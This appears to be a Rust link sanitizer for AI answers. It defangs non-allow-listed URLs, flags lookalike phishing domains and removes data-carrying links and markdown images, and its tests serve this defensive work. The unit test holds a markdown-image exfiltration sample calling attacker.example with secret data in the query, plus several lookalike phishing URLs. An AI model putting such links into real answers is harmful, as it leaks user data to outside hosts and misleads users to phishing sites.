//! Links in answers: only allow-listed domains stay clickable; others are
//! defanged (`hxxps://evil[.]example`); lookalikes of allowed domains
//! (punycode, digit-for-letter swaps, one edit away, an allowed name used as a
//! subdomain of another) are flagged as phishing; markdown images and links
//! that would carry data to an outside host are removed.

use std::sync::OnceLock;

use regex::Regex;

/// What to do with one link.
#[derive(Debug, Clone, PartialEq)]
pub struct LinkFinding {
    pub start: usize,
    pub end: usize,
    pub reason: &'static str,
    /// `phishing`, `exfiltration` or `external_link`.
    pub category: &'static str,
    pub replacement: String,
}

fn patterns() -> &'static (Regex, Regex) {
    static PATTERNS: OnceLock<(Regex, Regex)> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        (
            Regex::new(r"(!?)\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]+)>?(?:\s+[^)]*)?\)").expect("compiles"),
            Regex::new(r"(?i)\b(?:https?|ftp)://[^\s<>()\[\]{}'`]+|\bwww\.[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s<>()\[\]{}'`]*").expect("compiles"),
        )
    })
}

/// The host of a URL, lower-cased, without credentials or port.
pub fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

fn allowed(host: &str, allow: &[String]) -> bool {
    allow
        .iter()
        .any(|domain| host == domain || host.ends_with(&format!(".{domain}")))
}

/// Why a host not on the allow-list looks like one on it.
fn lookalike(host: &str, allow: &[String]) -> Option<&'static str> {
    if host.split('.').any(|label| label.starts_with("xn--")) {
        return Some("punycode (internationalised) domain name");
    }
    let skeleton = |text: &str| -> String {
        text.replace("rn", "m")
            .replace("vv", "w")
            .chars()
            .map(|c| match c {
                '0' => 'o',
                '1' | 'l' => 'i',
                '3' => 'e',
                '5' => 's',
                '-' | '_' => '.',
                _ => c,
            })
            .collect()
    };
    for domain in allow {
        let name = domain.split('.').next().unwrap_or(domain);
        if host.contains(&format!("{domain}.")) || host.starts_with(&format!("{name}-")) {
            return Some("an allowed domain's name inside another domain");
        }
        let registrable = host
            .rsplitn(3, '.')
            .take(2)
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect::<Vec<_>>()
            .join(".");
        if skeleton(&registrable) == skeleton(domain) || skeleton(host) == skeleton(domain) {
            return Some("lookalike of an allowed domain");
        }
        let first_label = host.split('.').next().unwrap_or(host);
        if first_label != name && edit_distance(first_label, name) <= 2 && name.len() >= 5 {
            return Some("lookalike of an allowed domain");
        }
    }
    None
}

fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut previous = row[0];
        row[0] = i + 1;
        for (j, cb) in b.iter().enumerate() {
            let current = row[j + 1];
            row[j + 1] = (previous + usize::from(ca != *cb))
                .min(row[j] + 1)
                .min(row[j + 1] + 1);
            previous = current;
        }
    }
    row[b.len()]
}

/// `https://evil.example/x` → `hxxps://evil[.]example/x`.
pub fn defang(url: &str) -> String {
    let (scheme, rest) = url.split_once("://").map_or(("", url), |(s, r)| (s, r));
    let (authority, path) = rest
        .find(['/', '?', '#'])
        .map_or((rest, ""), |at| rest.split_at(at));
    let scheme = scheme.replacen("http", "hxxp", 1).replacen("ftp", "fxp", 1);
    let authority = authority.replace('.', "[.]");
    if scheme.is_empty() {
        format!("{authority}{path}")
    } else {
        format!("{scheme}://{authority}{path}")
    }
}

/// Every link in `text` that is not plainly allowed, with its replacement.
pub fn scan_links(text: &str, allow: &[String]) -> Vec<LinkFinding> {
    let (markdown, bare) = patterns();
    let mut found: Vec<LinkFinding> = Vec::new();
    for captures in markdown.captures_iter(text) {
        let whole = captures.get(0).expect("group 0");
        let image = !captures[1].is_empty();
        let label = &captures[2];
        let url = &captures[3];
        let Some(host) = host_of(url).filter(|_| url.contains("://") || url.starts_with("www."))
        else {
            continue;
        };
        if allowed(&host, allow) {
            continue;
        }
        let carries_data = url.contains('?') || url.contains('=') || url.contains('{');
        let finding = if image {
            LinkFinding {
                start: whole.start(),
                end: whole.end(),
                reason:
                    "markdown image from an outside host (it would load, and can carry data out)",
                category: "exfiltration",
                replacement: "[image removed]".into(),
            }
        } else if let Some(why) = lookalike(&host, allow) {
            LinkFinding {
                start: whole.start(),
                end: whole.end(),
                reason: why,
                category: "phishing",
                replacement: format!("{label} ({}) [suspicious link]", defang(url)),
            }
        } else if carries_data {
            LinkFinding {
                start: whole.start(),
                end: whole.end(),
                reason: "link to an outside host with data in its address",
                category: "exfiltration",
                replacement: format!("{label} [link removed]"),
            }
        } else {
            LinkFinding {
                start: whole.start(),
                end: whole.end(),
                reason: "link to a host that is not on the allow-list",
                category: "external_link",
                replacement: format!("{label} ({})", defang(url)),
            }
        };
        found.push(finding);
    }
    for m in bare.find_iter(text) {
        if found
            .iter()
            .any(|f| f.start <= m.start() && m.end() <= f.end)
        {
            continue;
        }
        let url = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
        let Some(host) = host_of(url) else { continue };
        if allowed(&host, allow) {
            continue;
        }
        let end = m.start() + url.len();
        let (category, reason) = match lookalike(&host, allow) {
            Some(why) => ("phishing", why),
            None if url.contains('?') && url.contains('=') => {
                ("exfiltration", "address to an outside host carrying data")
            }
            None => (
                "external_link",
                "link to a host that is not on the allow-list",
            ),
        };
        found.push(LinkFinding {
            start: m.start(),
            end,
            reason,
            category,
            replacement: defang(url),
        });
    }
    found.sort_by_key(|f| f.start);
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allow() -> Vec<String> {
        vec!["northwind.example".into()]
    }

    #[test]
    fn allowed_links_stay_and_others_are_defanged_or_removed() {
        assert!(scan_links("See https://intranet.northwind.example/hr [1].", &allow()).is_empty());
        let found = scan_links("Go to https://evil.example/login now", &allow());
        assert_eq!(found[0].replacement, "hxxps://evil[.]example/login");
        let found = scan_links("![x](https://attacker.example/log?d=secret)", &allow());
        assert_eq!(found[0].category, "exfiltration");
        for phishing in [
            "https://n0rthwind.example/reset",
            "https://northwind.example.evil.com/",
            "https://xn--nrthwind-xya.example/",
            "https://northwind-example.com/",
            "https://northwlnd.example/",
        ] {
            let found = scan_links(phishing, &allow());
            assert_eq!(found[0].category, "phishing", "{phishing}");
        }
    }
}
